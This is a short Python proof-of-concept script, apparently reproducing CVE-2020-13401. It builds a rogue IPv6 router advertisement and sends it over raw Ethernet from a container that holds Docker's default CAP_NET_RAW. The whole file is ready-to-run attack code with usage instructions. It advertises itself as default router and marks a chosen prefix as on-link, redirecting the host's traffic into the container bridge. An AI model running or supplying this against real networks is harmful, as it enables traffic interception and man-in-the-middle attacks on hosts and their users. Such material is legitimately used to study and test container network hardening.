# A rogue IPv6 router advertisement, as a container with CAP_NET_RAW (Docker's default set)
# can send it: raw Ethernet (AF_PACKET), so it leaves even an interface whose IPv6 is off.
# It offers itself as default router, PREFIX/64 for SLAAC, and ONLINK/64 as on-link (which
# would send the host's traffic for ONLINK into the bridge). CVE-2020-13401 is this attack.
# Usage: python3 rogue-ra.py IFNAME PREFIX ONLINK   (e.g. eth0 2001:db8:bad:: 2001:db8:203::)
import socket
import struct
import sys

ifname, prefix, onlink = sys.argv[1:4]
v6 = lambda a: socket.inet_pton(socket.AF_INET6, a)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
mac = s.getsockname()[4]
src, dst = v6('fe80::bad'), v6('ff02::1')


def pio(p, flags):  # prefix information: /64, flags (L 0x80, A 0x40), lifetimes
    return struct.pack('!BBBBIII', 3, 4, 64, flags, 86400, 14400, 0) + v6(p)


body = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack('!BB', 1, 1) + mac + pio(prefix, 0xc0) + pio(onlink, 0x80)
pseudo = src + dst + struct.pack('!I3xB', len(body), 58) + body
total = sum(struct.unpack(f'!{len(pseudo) // 2}H', pseudo))
while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
body = body[:2] + struct.pack('!H', ~total & 0xFFFF) + body[4:]
frame = b'\x33\x33\x00\x00\x00\x01' + mac + b'\x86\xdd' + struct.pack('!IHBB', 6 << 28, len(body), 58, 255) + src + dst + body
for _ in range(3):
    s.send(frame)
print('sent')
